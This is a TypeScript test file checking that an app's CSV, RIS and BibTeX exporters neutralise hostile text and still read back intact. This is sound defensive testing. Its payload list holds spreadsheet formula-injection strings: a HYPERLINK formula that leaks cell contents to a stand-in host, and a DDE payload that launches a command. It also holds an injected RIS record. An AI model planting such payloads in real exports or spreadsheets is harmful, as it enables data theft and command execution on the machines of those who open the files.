// Exports that cannot attack their reader: hostile content (formulas, injected RIS records, unbalanced
// braces, backslashes, control characters) written by the app's own exporters and read back by
// maintained parsers: papaparse for CSV, citation-js for RIS and BibTeX. A real record and study from
// a database built through the app's build path carry the payloads.
import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import Papa from "papaparse";
import { Cite } from "@citation-js/core";
import "@citation-js/plugin-ris";
import "@citation-js/plugin-bibtex";
import { buildTestDatabase } from "../testing/build-test-db";
import { openDatabase } from "../db/open";
import { STUDY_INCLUDE, toStudyRecord } from "../data/to-record";
import { effectsOfStudy } from "../data/sql";
import { CSV_COLUMNS, effectsToCsv, neutraliseFormula } from "../data/export-dataset";
import { publicationsOf, toBibtex, toRis } from "../domain/citations";
import type { EffectRecord, StudyRecord } from "../domain/records";

let effect: EffectRecord;
let study: StudyRecord;

beforeAll(async () => {
  const file = await buildTestDatabase();
  const db = openDatabase(file);
  const s = await db.study.findUnique({ where: { id: "ncch-scp-2024" }, include: STUDY_INCLUDE });
  effect = effectsOfStudy("ncch-scp-2024", { file })[0]!;
  study = toStudyRecord(s!);
  await db.$disconnect();
}, 120_000);

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=1+1",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "＝1+1",
  "A title\r\nER  - \r\nTY  - JOUR\r\nTI  - injected",
  "unbalanced { brace",
  "unbalanced } brace",
  "{nested {braces}} and \\ backslash \\{ and \\}",
  "50% _under_ $dollar$ #hash &amp ~tilde ^caret",
  "line\u2028separator\u0085nel\u0000nul\u001bescape",
];
const NUMBERS = ["-6.6", "-0.25", "+1", "1e-3", "7.00", "-12"];
const DANGEROUS = /^[\s\u0000-\u001f]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/;
const NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

function csvOf(text: string, numberText = "-6.6"): string[][] {
  const hostile: EffectRecord = { ...effect, statement: text, population: text, locator: text, exposure: text, valueText: numberText, ciLowerText: "−6.6", note: text };
  const parsed = Papa.parse<string[]>(effectsToCsv([hostile, effect], [{ ...study, journal: text }]), { skipEmptyLines: false });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe("CSV: no cell a spreadsheet would run", () => {
  it.each(PAYLOADS)("neutralises %j in every text column and keeps one row per record", (payload) => {
    const rows = csvOf(payload);
    expect(rows).toHaveLength(3); // header + 2 records: a CR/LF inside a value does not start a row
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    for (const row of rows) for (const cell of row) if (DANGEROUS.test(cell)) expect(NUMBER.test(cell), JSON.stringify(cell)).toBe(true);
    const statement = rows[1]![CSV_COLUMNS.indexOf("statement")]!;
    // The text itself is kept: only an apostrophe is added in front of a dangerous start.
    expect(statement === payload || statement === `'${payload}`).toBe(true);
  });

  it.each(NUMBERS)("keeps the number %s a number", (n) => {
    const rows = csvOf("plain", n);
    expect(rows[1]![CSV_COLUMNS.indexOf("value")]).toBe(n);
    expect(rows[1]![CSV_COLUMNS.indexOf("ciLower")]).toBe("−6.6");
  });

  it("holds for any text (property)", () => {
    const alphabet = fc.constantFrom(..."=+-@\t\r\n \"',;{}\\%_$#&~^aZ09.\u2212\uFF1D\u2028\u0000".split(""));
    fc.assert(
      fc.property(fc.string({ unit: alphabet, maxLength: 24 }), (text) => {
        const cell = neutraliseFormula(text) as string;
        if (DANGEROUS.test(cell)) expect(NUMBER.test(cell)).toBe(true);
        expect(cell === text || cell === `'${text}`).toBe(true);
        const rows = Papa.parse<string[]>(effectsToCsv([{ ...effect, statement: text }], [study])).data;
        expect(rows[1]![CSV_COLUMNS.indexOf("statement")]).toBe(cell);
      }),
      { numRuns: 500 },
    );
  });
});

type Csl = { title?: string; author?: { given?: string; family?: string; literal?: string }[]; DOI?: string; URL?: string; "container-title"?: string };
const parseRis = async (text: string) => (await Cite.async(text, { forceType: "@ris/file" })).data as Csl[];
const parseBibtex = async (text: string) => (await Cite.async(text, { forceType: "@biblatex/text" })).data as Csl[];
const squash = (s: string) => s.replace(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\s]+/g, " ").trim();

function hostileStudy(text: string): StudyRecord {
  return { ...study, title: text, journal: `J ${text}`, authors: [`O'Brien ${text}`, "Smith and Jones A"], doi: "10.1000/a{b}c\\d", url: "http://x.example/a_b?c=1%20d" };
}

describe("RIS: one record per publication, one line per value", () => {
  it.each(PAYLOADS)("writes %j on one line and reads back one record", async (payload) => {
    const pubs = publicationsOf([hostileStudy(payload)], [], []);
    const ris = toRis(pubs);
    const lines = ris.split("\r\n");
    for (const line of lines) expect(line === "" || /^[A-Z][A-Z0-9]  - /.test(line), JSON.stringify(line)).toBe(true);
    expect(lines.filter((l) => l.startsWith("TY  - "))).toHaveLength(pubs.length);
    expect(lines.filter((l) => l.startsWith("ER  - "))).toHaveLength(pubs.length);
    const read = await parseRis(ris);
    expect(read).toHaveLength(pubs.length);
    expect(squash(read[0]!.title!)).toBe(squash(payload));
    expect(read[0]!.author).toHaveLength(2);
    expect(read[0]!.DOI).toBe("10.1000/a{b}c\\d");
  });
});

/** BibTeX's own rule: every brace counts, escaped or not; depth never below 0 and back to 0 at the end. */
function bracesBalance(entry: string): boolean {
  let depth = 0;
  for (const c of entry) {
    if (c === "{") depth++;
    if (c === "}" && --depth < 0) return false;
  }
  return depth === 0;
}

describe("BibTeX: balanced entries that read back as written", () => {
  it.each(PAYLOADS)("escapes %j and reads it back", async (payload) => {
    const pubs = publicationsOf([hostileStudy(payload)], [], []);
    const bib = toBibtex(pubs);
    const entries = bib.split("\n\n");
    expect(entries).toHaveLength(pubs.length);
    for (const e of entries) expect(bracesBalance(e), e).toBe(true);
    for (const line of bib.split("\n")) expect(/^(@\w+\{[A-Za-z0-9]+,|  [a-z]+ = \{.*\},?|\})$/.test(line), JSON.stringify(line)).toBe(true);
    const read = await parseBibtex(bib);
    expect(read).toHaveLength(pubs.length);
    expect(squash(read[0]!.title!)).toBe(squash(payload));
    expect(read[0]!["container-title"]).toBe(squash(`J ${payload}`));
    expect(read[0]!.author).toHaveLength(2);
    expect(read[0]!.DOI).toBe("10.1000/a%7Bb%7Dc%5Cd");
    expect(read[0]!.URL).toBe("http://x.example/a_b?c=1%20d");
  });

  it("keeps any text balanced and on one line (property)", () => {
    const alphabet = fc.constantFrom(..."{}\\%_$#&~^ aZ\r\n\t@=,\"".split(""));
    fc.assert(
      fc.property(fc.string({ unit: alphabet, maxLength: 30 }), (text) => {
        const bib = toBibtex(publicationsOf([hostileStudy(text)], [], []));
        expect(bracesBalance(bib)).toBe(true);
        expect(bib.split("\n").every((l) => /^(@\w+\{[A-Za-z0-9]+,|  [a-z]+ = \{.*\},?|\}|)$/.test(l))).toBe(true);
        const ris = toRis(publicationsOf([hostileStudy(text)], [], []));
        expect(ris.split("\r\n").filter((l) => /^(TY|ER)  - /.test(l))).toHaveLength(2);
      }),
      { numRuns: 500 },
    );
  });
});
